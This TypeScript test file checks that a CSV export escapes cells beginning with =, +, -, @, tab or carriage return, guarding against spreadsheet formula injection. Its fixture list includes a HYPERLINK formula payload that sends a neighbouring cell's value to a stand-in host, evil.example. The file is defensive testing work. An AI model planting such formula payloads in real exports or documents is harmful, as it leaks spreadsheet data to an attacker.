/**
 * The audit CSV carries vendor text (emails, reasons, record ids): a cell a spreadsheet would run as a formula is
 * prefixed with ' (OWASP CSV injection). Found by the attacker trial: `=HYPERLINK(...)@x.com` reached the audit.
 */
import assert from 'assert';
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../src/csv';

describe('CSV output: formula injection', () => {
  it('prefixes cells starting with = + - @ tab or CR, and leaves every other cell as it was', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A3,"open")@x.com',
      '@SUM(1+1)@x.com',
      '+1@x.com',
      '-2@x.com',
      '\tx',
      '\rx',
    ];
    const plain = ['a@b.com', 'rejected by CRM', '12', '', 'x=y'];
    const text = toCsv([['email'], ...hostile.map((h) => [h]), ...plain.map((p) => [p])]);
    const cells = (parse(text, { relax_column_count: true }) as string[][]).slice(1).map((r) => r[0]!);
    assert.deepEqual(
      cells.slice(0, hostile.length),
      hostile.map((h) => `'${h}`),
    );
    assert.deepEqual(cells.slice(hostile.length), plain);
    for (const c of cells) assert.ok(!/^[=+\-@\t\r]/.test(c), `a cell still starts a formula: ${JSON.stringify(c)}`);
  });
});
